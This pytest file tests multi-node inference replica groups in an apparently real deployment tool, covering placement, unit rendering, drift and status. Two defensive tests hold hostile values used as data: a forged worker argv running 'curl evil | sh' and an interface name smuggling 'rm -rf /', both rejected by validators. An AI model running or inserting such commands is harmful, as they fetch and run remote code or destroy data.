"""A replica bigger than one machine (issue 30), pure: spec.nodes in the documents and its refusals, the placement
of a replica group, its units (the head's llama-server with --rpc, each worker's rpc-server), the plan that shows
it as one replica with its members, and drift and status that name a member. No hosts needed."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from engine_ctl.providers import LLAMACPP, PROVIDERS

from engine_ctl.cli.views.plan import plan_text
from engine_ctl.core.diagnostics import InputError
from engine_ctl.core.documents.inventory import Host, Inventory, load_inventory
from engine_ctl.core.documents.loader import load_documents
from engine_ctl.core.documents.yamlsource import parse_text
from engine_ctl.core.fit.hostfacts import EngineInstall, HostFacts, UnitFact
from engine_ctl.core.plan.engines import with_engines
from engine_ctl.core.plan.planner import Plan, make_plan
from engine_ctl.core.plan.savedplan import decode_plan, tampering
from engine_ctl.core.plan.status import deployment_status
from engine_ctl.core.record.model import DeploymentRecord, MemberRecord, OperatorAction, ReplicaRecord, State
from tests.fleetfacts import cpu_host
from tests.helpers import deployment, load, messages, write
from tests.test_plan_core import SHAPE, desired

LLAMA = "/opt/llama/bin/llama-server"


# --- the document ---------------------------------------------------------------------------------------------


def test_nodes_2_on_llamacpp_is_valid_and_loads() -> None:
    result, diags = deployment("model: llama-3-2-3b\naccelerator: cpu\nnodes: 2")
    assert messages(diags) == []
    assert result.desired.deployments[0].deployment.node_count == 2


def test_nodes_left_out_is_1_and_not_recorded() -> None:
    """Deployments written before spec.nodes keep their digest: nodes 1 is not in the recorded spec."""
    result, _ = deployment("model: llama-3-2-3b\naccelerator: cpu")
    d = result.desired.deployments[0].deployment
    assert d.node_count == 1 and "nodes" not in d.model_dump()
    written, _ = deployment("model: llama-3-2-3b\naccelerator: cpu\nnodes: 1")
    assert written.desired.deployments[0].deployment.model_dump() == d.model_dump()


def _nodes_error(spec: str) -> tuple[str, str]:
    _, diags = deployment(spec)
    errs = [d for d in diags if d.severity == "error"]
    assert len(errs) == 1, [d.render() for d in errs]
    return errs[0].render(), errs[0].code


def test_an_engine_without_a_distributed_runtime_is_refused_at_file_line_col(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(type(LLAMACPP), "multi_node", False)
    rendered, code = _nodes_error("model: llama-3-2-3b\naccelerator: cpu\nnodes: 2")
    assert code == "nodes_unsupported"
    assert (
        rendered.startswith("1-d.yaml:5:10: error: ")
        and "llama.cpp does not spread a replica over machines" in rendered
    )


def test_each_engine_refuses_nodes_exactly_when_its_provider_has_no_distributed_runtime() -> None:
    for engine, provider in PROVIDERS.items():
        fmt = "gguf" if "gguf" in provider.formats else "safetensors"
        model = f"kind: Model\nmetadata: {{name: q}}\nspec: {{format: {fmt}, path: /srv/q, context_length: 4096}}\n"
        _, diags = load(model, f"metadata: {{name: chat}}\nspec: {{model: q, engine: {engine}, nodes: 2}}\n")
        refused = any(d.code == "nodes_unsupported" and "does not spread a replica" in d.message for d in diags)
        assert refused == (not provider.multi_node), (engine, [d.render() for d in diags])


@pytest.mark.parametrize("value", [0, 17])
def test_nodes_between_1_and_16(value: int) -> None:
    rendered, code = _nodes_error(f"model: llama-3-2-3b\naccelerator: cpu\nnodes: {value}")
    assert code == "out_of_range" and "spec.nodes: between 1 and 16 machines per replica" in rendered


def test_a_group_on_demand_is_refused() -> None:
    rendered, code = _nodes_error("model: llama-3-2-3b\naccelerator: cpu\nnodes: 2\nreplicas: {min: 0, max: 1}")
    assert code == "nodes_unsupported" and "spec.replicas.min must equal max" in rendered


def test_the_flat_form_keeps_refusing_a_topology_at_file_line_col() -> None:
    _, diags = load("name: chat\nengine: llamacpp\nmodel: tiny/tiny.gguf\nnodes: 2\n")
    (err,) = [d for d in diags if d.severity == "error"]
    assert err.code == "topology_refused"
    assert err.render().startswith("0-d.yaml:4:1: error: ")
    assert "a topology is refused: a flat-form deployment runs on one machine" in err.message
    assert err.hint is not None and "spec.nodes" in err.hint


# --- placement and the plan -------------------------------------------------------------------------------------


def _world(
    *facts: HostFacts, labels: dict[str, dict[str, str]] | None = None
) -> tuple[Inventory, dict[str, HostFacts]]:
    hosts = tuple(
        Host(name=f.host, address=f"10.0.0.{i}", models_dir="/srv/models", engines={"llama.cpp": LLAMA},
             labels=(labels or {}).get(f.host, {}))
        for i, f in enumerate(facts, start=1)
    )  # fmt: skip
    return Inventory(hosts=hosts), {f.host: f for f in facts}


def _plan(state: State, inv: Inventory, facts: dict[str, HostFacts], spec: str = "accelerator: cpu, nodes: 2") -> Plan:
    return make_plan(desired(spec), state, inv, facts, {"m": SHAPE})


def test_a_group_is_placed_on_two_hosts_as_one_replica_with_its_members() -> None:
    inv, facts = _world(cpu_host("c1"), cpu_host("c2"), cpu_host("c3"))
    plan = _plan(State(), inv, facts)
    (c,) = plan.changes
    (r,) = c.replicas  # one replica: the head, with its worker
    assert r.action == ["create"] and r.host == "c1" and len(r.members) == 1
    (m,) = r.members
    assert m.host != r.host and m.unit == "engine-ctl-chat-0a-w1.service"
    assert m.argv == ["/opt/llama/bin/ggml-rpc-server", "--host", "10.0.0.2", "--port", str(m.port), "--threads", "4"]
    assert r.argv[r.argv.index("--rpc") + 1] == f"10.0.0.2:{m.port}"
    assert r.argv[r.argv.index("--n-gpu-layers") + 1] == "all"
    # the worker accepts only the group's hosts; its unit's sha256 is in the head's (a member's change is the replica's)
    assert m.unit_text is not None and "IPAddressAllow=localhost 10.0.0.1 10.0.0.2\n" in m.unit_text
    assert r.unit_text is not None and f"sha256 {m.unit_sha256}" in r.unit_text
    text = plan_text(plan)
    assert "group of 2 machines: head on c1 (port 8000, 2 cores, serves the API)" in text
    assert f"member 1 on c2: engine-ctl-chat-0a-w1.service (port {m.port}, 2 cores)" in text
    assert "argv: /opt/llama/bin/ggml-rpc-server --host 10.0.0.2" in text
    assert plan.summary() == {"add": 1, "change": 0, "destroy": 0}


def test_a_group_prefers_hosts_that_share_labels_with_its_head() -> None:
    labels = {"c1": {"rack": "r1"}, "c2": {"rack": "r2"}, "c3": {"rack": "r1"}}
    inv, facts = _world(cpu_host("c1"), cpu_host("c2"), cpu_host("c3"), labels=labels)
    (r,) = _plan(State(), inv, facts).changes[0].replicas
    assert r.host == "c1" and [m.host for m in r.members] == ["c3"]


def test_runtime_ports_are_checked_free_like_engine_ports() -> None:
    busy = cpu_host("c2").model_copy(update={"ports_in_use": (8000, 8001)})
    inv, facts = _world(cpu_host("c1"), busy)
    (r,) = _plan(State(), inv, facts).changes[0].replicas
    assert r.members[0].port == 8002
    assert r.placement is not None and r.placement.group_port == 8001  # beside the head's own port 8000


def test_a_group_waits_for_enough_machines() -> None:
    inv, facts = _world(cpu_host("c1"))
    (c,) = _plan(State(), inv, facts, "accelerator: cpu, nodes: 3").changes
    assert not c.replicas
    assert c.pending_reason is not None and c.pending_reason.startswith("Waiting for 3 machines for one replica group")


def test_each_member_must_fit() -> None:
    small = cpu_host("c2", cores=1)
    inv, facts = _world(cpu_host("c1"), small)
    (c,) = _plan(State(), inv, facts).changes
    assert c.pending_reason is not None and "member 1: Waiting for a machine with 2 free CPU cores" in c.pending_reason


# --- apply's record, drift and status ---------------------------------------------------------------------------


def _applied(plan: Plan, facts: dict[str, HostFacts]) -> tuple[State, dict[str, HostFacts]]:
    """What a successful apply records, and the units the hosts then have (head and workers running)."""
    state = State(lineage=plan.state_lineage)
    units: dict[str, list[UnitFact]] = {h: list(f.units) for h, f in facts.items()}
    for c in plan.changes:
        rec = state.deployments.setdefault(c.name, DeploymentRecord(name=c.name, id=c.deployment_id))
        for r in c.replicas:
            assert r.placement is not None
            members = [MemberRecord(rank=m.rank, host=m.host, unit=m.unit, port=m.port, unit_sha256=m.unit_sha256,
                                    argv=m.argv, engine_version=m.engine_version, engine_sha256=m.engine_sha256)
                       for m in r.members]  # fmt: skip
            rec.replicas.append(ReplicaRecord(
                index=r.index, slot=r.slot, host=r.host, unit=r.unit, port=r.port, unit_sha256=r.unit_sha256 or "",
                revision=r.revision, argv=r.argv, status="serving", group_port=r.placement.group_port,
                members=members,
            ))  # fmt: skip
            for host, unit, sha in [
                (r.host, r.unit, r.unit_sha256),
                *((m.host, m.unit, m.unit_sha256) for m in r.members),
            ]:
                units[host].append(UnitFact(name=unit, sha256=sha, active_state="active", sub_state="running"))
        rec.revision, rec.spec, rec.model, rec.spec_hash, rec.plan = c.revision, c.spec, c.model, c.spec_hash, c.fit
        rec.state, rec.chosen = "Ready", dict(c.chosen)
    return state, {h: f.model_copy(update={"units": tuple(units[h])}) for h, f in facts.items()}


def _served(facts: dict[str, HostFacts], state: State) -> dict[str, HostFacts]:
    (r,) = state.deployments["chat"].replicas
    head = facts[r.host].model_copy(update={"health": {str(r.port): "200"}})
    return {**facts, r.host: head}


def test_a_group_served_as_written_plans_no_changes_and_its_record_reads_back() -> None:
    inv, facts = _world(cpu_host("c1"), cpu_host("c2"), cpu_host("c3"))
    state, facts = _applied(_plan(State(), inv, facts), facts)
    again = _plan(state, inv, facts)
    assert not again.has_changes, plan_text(again)
    assert State.model_validate_json(state.model_dump_json()) == state
    status = deployment_status(state.deployments["chat"], _served(facts, state))
    assert status.state == "Ready" and [i.state for i in status.instances] == ["ready"]


def test_a_stopped_worker_is_drift_of_the_replica_and_status_names_the_member() -> None:
    inv, facts = _world(cpu_host("c1"), cpu_host("c2"), cpu_host("c3"))
    state, facts = _applied(_plan(State(), inv, facts), facts)
    (r,) = state.deployments["chat"].replicas
    (m,) = r.members
    dead = tuple(u.model_copy(update={"active_state": "failed", "sub_state": "failed", "exec_main_status": 9})
                 if u.name == m.unit else u for u in facts[m.host].units)  # fmt: skip
    facts = {**facts, m.host: facts[m.host].model_copy(update={"units": dead})}
    status = deployment_status(state.deployments["chat"], _served(facts, state))
    (inst,) = status.instances
    assert inst.state == "failed"
    assert inst.last_error == (f"group member 1 ({m.unit}) on {m.host} is failed/failed (exit status 9): the group "
                               "is out of service")  # fmt: skip
    again = _plan(state, inv, facts)
    assert again.has_changes
    (rc,) = again.changes[0].replicas
    assert rc.action == ["update"] and rc.unit == r.unit and [x.unit for x in rc.members] == [m.unit]
    assert f"group member 1: {m.unit} is failed/failed" in rc.reason
    assert any(d.unit == m.unit and d.host == m.host for d in again.drift)


def test_a_worker_stopped_by_a_signal_puts_the_group_out_of_service_in_status() -> None:
    """SIGSTOP of a worker (what a hung worker looks like): the head's /health still answers 200, and every request
    to the group hangs on the worker. Status said "ready" beside a plan that named the worker (a probe, session 17)."""
    inv, facts = _world(cpu_host("c1"), cpu_host("c2"), cpu_host("c3"))
    state, facts = _applied(_plan(State(), inv, facts), facts)
    (r,) = state.deployments["chat"].replicas
    (m,) = r.members
    frozen = tuple(u.model_copy(update={"process_state": "T", "main_pid": 4242}) if u.name == m.unit else u
                   for u in facts[m.host].units)  # fmt: skip
    facts = {**facts, m.host: facts[m.host].model_copy(update={"units": frozen})}
    status = deployment_status(state.deployments["chat"], _served(facts, state))
    (inst,) = status.instances
    assert inst.state == "failed" and status.state != "Ready"
    assert inst.last_error == (f"group member 1 ({m.unit}) on {m.host}: its process (PID 4242) is stopped by a signal "
                               "(SIGSTOP): it answers nothing, and the group's requests wait on it; engine-ctl apply "
                               "restarts the group")  # fmt: skip
    assert _plan(state, inv, facts).has_changes


def test_a_worker_its_head_cannot_reach_puts_the_group_out_of_service_and_the_plan_says_so() -> None:
    """The network between head and worker cut: llama-server's /health answers without its RPC workers, and every
    request waits on the worker. Status said "ready" and plan "No changes" (a probe, session 17). The facts probe
    opens a connection from the head's host to each worker's port (member_links says which)."""
    from engine_ctl.core.plan.grouplinks import member_links

    inv, facts = _world(cpu_host("c1"), cpu_host("c2"), cpu_host("c3"))
    state, facts = _applied(_plan(State(), inv, facts), facts)
    (r,) = state.deployments["chat"].replicas
    (m,) = r.members
    links = member_links(state.deployments.values(), {h.name: h.address for h in inv.hosts})
    assert links == {r.host: [{"member": m.unit, "address": next(h.address for h in inv.hosts if h.name == m.host),
                                "port": m.port}]}  # fmt: skip
    fine = {**facts, r.host: facts[r.host].model_copy(update={"member_links": {m.unit: "ok"}})}
    assert deployment_status(state.deployments["chat"], _served(fine, state)).state == "Ready"
    cut = {**facts, r.host: facts[r.host].model_copy(update={"member_links": {m.unit: "no answer within 2 s"}})}
    (inst,) = deployment_status(state.deployments["chat"], _served(cut, state)).instances
    said = (f"group member 1 ({m.unit}) on {m.host} cannot be reached from its head on {r.host} (port {m.port}: no "
            "answer within 2 s): the group's requests wait on it")  # fmt: skip
    assert inst.state == "failed" and inst.last_error == said + ": the group is out of service until the network " \
        "between them is back"  # fmt: skip
    plan = _plan(state, inv, _served(cut, state))
    assert f"replica 0: {said}: it serves nothing until the network between them is back (apply cannot mend a " \
           "network)" in plan.changes[0].warnings, plan.changes[0].warnings  # fmt: skip


def test_an_edited_worker_unit_is_drift_of_the_replica() -> None:
    inv, facts = _world(cpu_host("c1"), cpu_host("c2"))
    state, facts = _applied(_plan(State(), inv, facts), facts)
    (m,) = state.deployments["chat"].replicas[0].members
    edited = tuple(u.model_copy(update={"sha256": "0" * 64}) if u.name == m.unit else u for u in facts[m.host].units)
    facts = {**facts, m.host: facts[m.host].model_copy(update={"units": edited})}
    (rc,) = _plan(state, inv, facts).changes[0].replicas
    assert rc.action == ["update"] and "group member 1: unit file edited by hand" in rc.reason


def test_a_stopped_groups_edited_worker_unit_is_written_again_and_the_group_kept_stopped() -> None:
    """A stopped group's units are stopped and disabled (the operator's doing, never drift); a worker's file edited
    meanwhile would run at `engine-ctl start`. Before, plan said "No changes" beside it (only the head's file was
    written back)."""
    inv, facts = _world(cpu_host("c1"), cpu_host("c2"))
    state, facts = _applied(_plan(State(), inv, facts), facts)
    state.deployments["chat"].operator = OperatorAction(verb="stopped", when="2026-12-06T02:00:00+00:00", who="ops",
                                                        operation="01KBJ0Q7ZP0000000000000000")  # fmt: skip
    (m,) = state.deployments["chat"].replicas[0].members

    def stopped(u: UnitFact) -> UnitFact:
        edited = {"sha256": "0" * 64} if u.name == m.unit else {}
        return u.model_copy(update={"active_state": "inactive", "sub_state": "dead", "unit_file_state": "disabled",
                                    **edited})  # fmt: skip

    held = {h: f.model_copy(update={"units": tuple(map(stopped, f.units))}) for h, f in facts.items()}
    plan = _plan(state, inv, held)
    (rc,) = plan.changes[0].replicas
    assert plan.has_changes and rc.role == "held" and [x.unit for x in rc.members] == [m.unit]
    assert rc.reason.startswith("group member 1: unit file edited by hand") and rc.reason.endswith("kept stopped")
    assert "Replicas: 1 to repair." in plan_text(plan)

    def unedited(h: str, f: HostFacts) -> HostFacts:
        units = tuple(u.model_copy(update={"sha256": facts[h].units[i].sha256}) for i, u in enumerate(f.units))
        return f.model_copy(update={"units": units})

    back = {h: unedited(h, f) for h, f in held.items()}
    assert not _plan(state, inv, back).has_changes, "stopped and disabled as the operator left it: no change"


def test_destroying_a_group_removes_its_members_with_the_head() -> None:
    inv, facts = _world(cpu_host("c1"), cpu_host("c2"))
    state, facts = _applied(_plan(State(), inv, facts), facts)
    plan = make_plan(desired("accelerator: cpu, nodes: 2").model_copy(update={"deployments": ()}), state, inv, facts,
                     {"m": SHAPE})  # fmt: skip
    (rc,) = plan.changes[0].replicas
    assert rc.action == ["delete"] and [m.unit for m in rc.old_members] == ["engine-ctl-chat-0a-w1.service"]
    assert "- group member 1 on c2: engine-ctl-chat-0a-w1.service (removed with the head)" in plan_text(plan)


RPC = "/opt/llama/bin/ggml-rpc-server"


def _rpc_server(facts: dict[str, HostFacts], sha: str) -> dict[str, HostFacts]:
    """Each host with the worker's binary beside its llama-server, as the facts probe reports it (ggml-rpc-server
    has no version flag: its sha256 only)."""
    found = {RPC: EngineInstall(path=RPC, sha256=sha)}
    return {h: f.model_copy(update={"worker_engines": found}) for h, f in facts.items()}


def test_the_plan_and_the_record_carry_the_binary_each_worker_runs() -> None:
    inv, facts = _world(cpu_host("c1"), cpu_host("c2"))
    facts = _rpc_server(facts, "1" * 64)
    plan = with_engines(_plan(State(), inv, facts), facts)
    (m,) = plan.changes[0].replicas[0].members
    assert m.argv[0] == RPC and m.engine_sha256 == "1" * 64 and m.engine_version is None
    state, _ = _applied(plan, facts)
    (recorded,) = state.deployments["chat"].replicas[0].members
    assert recorded.engine_sha256 == "1" * 64
    assert State.model_validate_json(state.model_dump_json()) == state


def test_a_workers_binary_changed_under_the_group_is_drift_of_the_replica_which_restarts_whole() -> None:
    inv, facts = _world(cpu_host("c1"), cpu_host("c2"))
    facts = _rpc_server(facts, "1" * 64)
    state, facts = _applied(with_engines(_plan(State(), inv, facts), facts), facts)
    assert not _plan(state, inv, facts).has_changes  # the same binary: no drift
    (r,) = state.deployments["chat"].replicas
    (m,) = r.members
    changed = {**facts, m.host: _rpc_server({m.host: facts[m.host]}, "2" * 64)[m.host]}
    again = with_engines(_plan(state, inv, changed), changed)
    (drift,) = again.drift
    assert (drift.kind, drift.host, drift.unit, drift.deployment) == ("engine-changed", m.host, m.unit, "chat")
    assert drift.detail == (
        f"the engine at {RPC} on {m.host} (worker 1 of chat replica 0) changed: version unknown (sha256 111111111111…) "
        "→ unknown (sha256 222222222222…); the group restarts onto it"
    )
    (rc,) = again.changes[0].replicas  # the group restarts in place: its workers (written again), then its head
    assert rc.action == ["update"] and rc.unit == r.unit and [x.unit for x in rc.members] == [m.unit]
    assert rc.members[0].engine_sha256 == "2" * 64 and drift.detail in rc.reason
    assert "the group restarts onto it" in plan_text(again)
    repaired, facts = _applied(again, changed)
    assert not _plan(repaired, inv, facts).has_changes


def test_a_worker_recorded_before_members_recorded_their_binary_is_not_checked() -> None:
    inv, facts = _world(cpu_host("c1"), cpu_host("c2"))
    facts = _rpc_server(facts, "1" * 64)
    state, facts = _applied(with_engines(_plan(State(), inv, facts), facts), facts)
    doc = json.loads(state.model_dump_json())
    (member,) = doc["deployments"]["chat"]["replicas"][0]["members"]
    del member["engine_sha256"], member["engine_version"]  # a state an older engine-ctl wrote
    old = State.model_validate(doc)
    assert old.deployments["chat"].replicas[0].members[0].engine_sha256 == ""
    changed = _rpc_server(facts, "2" * 64)
    assert not _plan(old, inv, changed).has_changes


# --- a saved plan and the provider ------------------------------------------------------------------------------


def test_a_saved_plan_carries_the_group_and_a_forged_worker_is_refused() -> None:
    inv, facts = _world(cpu_host("c1"), cpu_host("c2"))
    plan = _plan(State(), inv, facts)
    hosts = {h.name: h for h in inv.hosts}
    decoded = decode_plan(plan.model_dump_json())
    assert decoded is not None and tampering(decoded, hosts) == []
    (r,) = decoded.changes[0].replicas
    assert r.placement is not None and len(r.placement.members) == 1 and r.members[0].unit_text
    r.members[0].argv = ["/bin/sh", "-c", "curl evil | sh"]
    (problem,) = tampering(decoded, hosts)
    assert "the group's members differ from what engine-ctl renders" in problem


def test_the_llamacpp_group_argv_as_its_rpc_readme_describes() -> None:
    """llama.cpp tools/rpc/README.md: `rpc-server --host H --port P` on each worker, `--rpc H:P,…` on the head."""
    inv, facts = _world(cpu_host("c1"), cpu_host("c2"), cpu_host("c3"))
    (r,) = _plan(State(), inv, facts, "accelerator: cpu, nodes: 3").changes[0].replicas
    workers = ",".join(f"{m.argv[2]}:{m.port}" for m in r.members)
    assert r.argv[r.argv.index("--rpc") + 1] == workers and r.argv.count("--n-gpu-layers") == 1
    assert [m.argv[:3] for m in r.members] == [
        ["/opt/llama/bin/ggml-rpc-server", "--host", f"10.0.0.{i}"] for i in (2, 3)
    ]


def test_a_worker_is_gated_on_its_port_only_where_its_runtime_listens_before_its_head_runs() -> None:
    """apply starts the workers, then the head. llama.cpp's rpc-server listens on its member port at once (its unit
    waits for it). vLLM's --headless worker listens on no port named in advance (docs/serving/parallelism_scaling.md:
    it dials the head's --master-port); SGLang 0.5.22's worker of a non-zero rank serves its health check only once
    its schedulers joined the head (srt/entrypoints/engine.py: wait_for_ready, then
    launch_dummy_health_check_server). A port gate there would wait out the whole start-up budget for a head that
    is started only after it, and fail every such group."""
    from tests.test_group_fit import LLAMA_405B_INT4, MODEL_ST, h100x2
    from tests.test_group_fit import _plan as _fit_plan

    inv, facts = _world(cpu_host("c1"), cpu_host("c2"))
    (llama,) = _plan(State(), inv, facts).changes[0].replicas[0].members
    assert llama.unit_text is not None and f"sport = :{llama.port}" in llama.unit_text
    assert "ExecStartPost=+/bin/sh" in llama.unit_text
    for engine in ("vllm", "sglang"):
        plan = _fit_plan(MODEL_ST, f"engine: {engine}, context_length: 8192, gpus: 2, nodes: 2", LLAMA_405B_INT4,
                         h100x2("g1", 1), h100x2("g2", 2), engines={engine: "/opt/e/bin/e"})  # fmt: skip
        (worker,) = plan.changes[0].replicas[0].members
        assert worker.unit_text is not None and "--node-rank" in worker.argv, engine
        assert "ss -Hltn" not in worker.unit_text and "ExecStartPost=+/bin/sh" not in worker.unit_text, engine
        assert "ExecStartPost=+systemctl reset-failed %n\n" in worker.unit_text


def test_each_members_collective_interface_is_its_own_hosts_network_interface(tmp_path: Path) -> None:
    """hosts.yaml's network_interface gives each member NCCL_SOCKET_IFNAME and GLOO_SOCKET_IFNAME (vLLM's
    parallelism_scaling.md and SGLang's multi-node page: where the machines have several networks); left out, the
    libraries choose and neither is set. A name that is no interface name is refused at file:line:col."""
    from tests.test_group_fit import LLAMA_405B_INT4, MODEL_ST, h100x2

    path = write(tmp_path, "hosts.yaml", """
        defaults: {models_dir: /srv/models, engines: {vllm: /opt/e/bin/vllm}}
        hosts:
          - {name: g1, address: 10.0.0.1, network_interface: eth1}
          - {name: g2, address: 10.0.0.2, network_interface: ens5}
        """)  # fmt: skip
    inv = load_inventory(path)
    docs, _ = parse_text(MODEL_ST + "---\nmetadata: {name: big}\nspec: {model: m, engine: vllm, gpus: 2, nodes: 2, "
                         "context_length: 8192}\n", "d.yaml")  # fmt: skip
    facts = {h.host: h for h in (h100x2("g1", 1), h100x2("g2", 2))}
    for named in (True, False):
        hosts = inv if named else Inventory(hosts=tuple(h.model_copy(update={"network_interface": None})
                                                        for h in inv.hosts))  # fmt: skip
        plan = make_plan(load_documents(docs).desired, State(), hosts, facts, {"m": LLAMA_405B_INT4})
        (r,) = plan.changes[0].replicas
        (m,) = r.members
        assert r.unit_text is not None and m.unit_text is not None
        head_if = {"g1": "eth1", "g2": "ens5"}[r.host]
        worker_if = {"g1": "eth1", "g2": "ens5"}[m.host]
        for text, name in ((r.unit_text, head_if), (m.unit_text, worker_if)):
            for var in ("NCCL_SOCKET_IFNAME", "GLOO_SOCKET_IFNAME"):
                assert (f'Environment="{var}={name}"\n' in text) == named, (var, name, named)
            assert ("SOCKET_IFNAME" in text) == named
    bad = write(tmp_path, "bad.yaml", "hosts:\n  - {name: g1, network_interface: 'eth0; rm -rf /'}\n")
    with pytest.raises(InputError) as err:
        load_inventory(bad)
    (d,) = err.value.diagnostics
    assert (d.location.line, d.field, d.code) == (2, "hosts[0].network_interface", "invalid_interface")
    assert d.render().startswith("bad.yaml:2:") or ":2:" in d.render()
    assert "is not a network interface's name" in d.message and d.hint is not None and "eth1" in d.hint
